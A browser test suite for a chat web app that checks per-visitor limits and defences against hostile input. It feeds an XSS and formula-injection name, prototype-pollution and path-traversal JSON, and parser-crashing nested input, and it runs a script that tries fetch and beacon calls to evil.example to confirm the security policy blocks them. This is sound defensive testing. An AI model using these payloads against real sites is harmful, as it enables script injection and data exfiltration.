"""The page under attack, and at a visitor's limit: nothing runs, nothing is lost."""

import json
import re
from collections.abc import Callable, Iterator
from typing import cast

import pytest
from playwright.sync_api import Browser, BrowserContext, expect

from gemma_space.playground import Playground
from gemma_space.settings import Settings
from tests.browser.chat_page import ChatPage
from tests.browser.conftest import served
from tests.browser.fake_playground import FakePlayground

NAME = '"><img src=x onerror=window.hacked=1>=cmd|x'


@pytest.fixture(scope="module")
def shared(browser: Browser) -> Iterator[tuple[FakePlayground, str]]:
    """The app with one request for each visitor at a time."""
    fake = FakePlayground()
    with served(cast(Playground, fake), settings=Settings(per_visitor=1)) as url:
        yield fake, url


def test_at_the_limit_a_message_is_kept_and_can_be_sent_again(
    shared: tuple[FakePlayground, str], new_context: Callable[..., BrowserContext]
) -> None:
    fake, url = shared
    context = new_context()
    one, other = (ChatPage(context.new_page(), url).open() for _ in range(2))
    fake.words, fake.seconds = ("word ",) * 600, 0.1
    one.send("Take your time")
    expect(one.reply).to_contain_text("word")
    other.send("My question")
    toast = other.page.locator(".toast-body")
    expect(toast).to_contain_text("no more may be at once")
    expect(toast).to_contain_text("Your text is kept")
    expect(other.box).to_have_value("My question")
    one.stop_button.click()
    one.finished()
    fake.words, fake.seconds = ("An ", "answer."), 0.0
    other.box.press("Enter")
    expect(other.reply).to_have_text("An answer.")
    expect(other.user_messages).to_have_count(1)


def poisoned() -> str:
    """A conversation that was written to break the page."""
    facts = '{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}'
    deep = "[" * 3000 + "]" * 3000
    return (
        f'{{"__proto__": {{"polluted": 1}}, "title": {json.dumps(NAME)}, "system_prompt": 5, '
        f'"other": {deep}, "id": "../x", "updated": 1e999, "messages": ['
        f'{{"role": "user", "content": {json.dumps(NAME)}, "__proto__": {{"polluted": 1}}}},'
        f'{{"role": "assistant", "content": {json.dumps(NAME)}, "footer": {{"title": '
        f'{json.dumps(NAME)}, "log": 1e999, "detail": {deep}, "record": {facts}}}}}]}}'
    )


def test_an_imported_conversation_changes_nothing_but_the_list(chat: ChatPage) -> None:
    chat.import_text(poisoned())
    expect(chat.conversations.first).to_contain_text(NAME)
    expect(chat.user_messages).to_have_count(1)
    assert chat.page.locator("img[src=x]").count() == 0
    assert chat.page.evaluate("[window.hacked, ({}).polluted, [].polluted]") == [None] * 3
    kept = chat.stored()[0]
    assert kept["id"] != "../x"
    assert kept["system_prompt"] == ""
    chat.reload()
    expect(chat.user_messages).to_have_count(1)
    assert chat.page.evaluate("[window.hacked, ({}).polluted]") == [None, None]


NO_CONVERSATIONS = (
    "[" * 200_000, "[" * 20_000 + "]" * 20_000, '{"messages": {"__proto__": []}}', "1e999",
    '[{"role": "__proto__", "content": "x"}]', '{"messages": [null]}', "x" * 5_000_001,
)  # fmt: skip


def test_what_is_no_conversation_is_refused_in_words(chat: ChatPage) -> None:
    told = chat.page.locator(".conversations-message")
    for text in NO_CONVERSATIONS:
        told.evaluate("(said) => { said.textContent = ''; }")
        chat.import_text(text)
        expect(told, text[:40]).to_have_text(re.compile(r"\w"))
        expect(told).to_have_class(re.compile("problem"))
        expect(chat.box).to_be_visible()


def test_the_page_can_load_from_and_send_to_nobody_else(
    chat: ChatPage, tolerated: list[str]
) -> None:
    """Whatever a script that was smuggled in would try. The console says what was refused."""
    tolerated += ["Content Security Policy", "external request: http://evil.example/"]
    tried = """async () => {
      const seen = [];
      document.addEventListener("securitypolicyviolation", (e) => seen.push(e.effectiveDirective));
      await fetch("http://evil.example/").catch(() => {});
      navigator.sendBeacon("http://evil.example/", "x");
      for (const [kind, name] of [["img", "src"], ["script", "src"], ["iframe", "src"],
                                  ["object", "data"], ["link", "href"], ["audio", "src"]]) {
        const made = document.createElement(kind);
        if (kind === "link") made.rel = "stylesheet";
        made[name] = "http://evil.example/";
        document.body.append(made);
      }
      for (let waited = 0; new Set(seen).size < 7 && waited < 150; waited += 1) {
        await new Promise((resolve) => setTimeout(resolve, 100));
      }
      return [...new Set(seen)].sort();
    }"""
    blocked = chat.page.evaluate(tried)
    assert {"connect-src", "img-src", "script-src-elem", "frame-src", "object-src"} <= set(blocked)
    assert {"style-src-elem", "media-src"} <= set(blocked)


def test_no_other_site_shows_the_page_in_a_frame(chat: ChatPage, tolerated: list[str]) -> None:
    tolerated += ["frame-ancestors", "Refused to frame", "ERR_BLOCKED"]
    other = chat.page.context.new_page()
    other.goto("about:blank")
    other.set_content(f"<iframe src='{chat.url}'></iframe>")
    other.wait_for_load_state()
    assert not any(frame.url.startswith(chat.url) for frame in other.frames if frame.parent_frame)
